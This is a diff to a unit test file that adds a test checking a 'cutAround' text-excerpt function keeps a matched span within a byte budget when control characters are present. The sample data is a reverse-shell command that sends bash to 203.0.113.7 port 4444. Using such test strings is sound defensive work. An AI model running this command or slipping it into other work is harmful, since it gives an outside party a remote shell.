@@ -77,6 +77,22 @@ describe('cutAround', () => {
     expect(cut).toMatch(/^…\[81\d,\d{3} bytes cut\]…A+bash/);
     expect(Buffer.byteLength(JSON.stringify(cut))).toBeLessThanOrEqual(1024);
   });
+
+  it('shares context in bytes: controls before the match (6 bytes each as JSON) do not starve the text after it', () => {
+    const shell = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';
+    const text = `${'\u0001'.repeat(25)}; ${shell}; ${'\u0001'.repeat(34)}`;
+    const start = text.indexOf('bash');
+    const cut = cutAround(text, [[start, start + 'bash -i'.length]], 256);
+    expect(cut).toContain(shell);
+    expect(Buffer.byteLength(JSON.stringify(cut))).toBeLessThanOrEqual(256);
+    // Each side got about the same number of bytes: the cheap side keeps more characters.
+    const [before = '', after = ''] = cut.split('bash -i');
+    const controls = before.replace(/…\[[\d,]+ bytes cut\]…/g, '').replace(/; $/, '');
+    expect(controls).toBe('\u0001'.repeat(controls.length));
+    expect(controls.length).toBeGreaterThanOrEqual(5);
+    expect(controls.length).toBeLessThan(25);
+    expect(after.length).toBeGreaterThan(shell.length);
+  });
 });
 
 describe('JSON sizes, walked without serialising', () => {
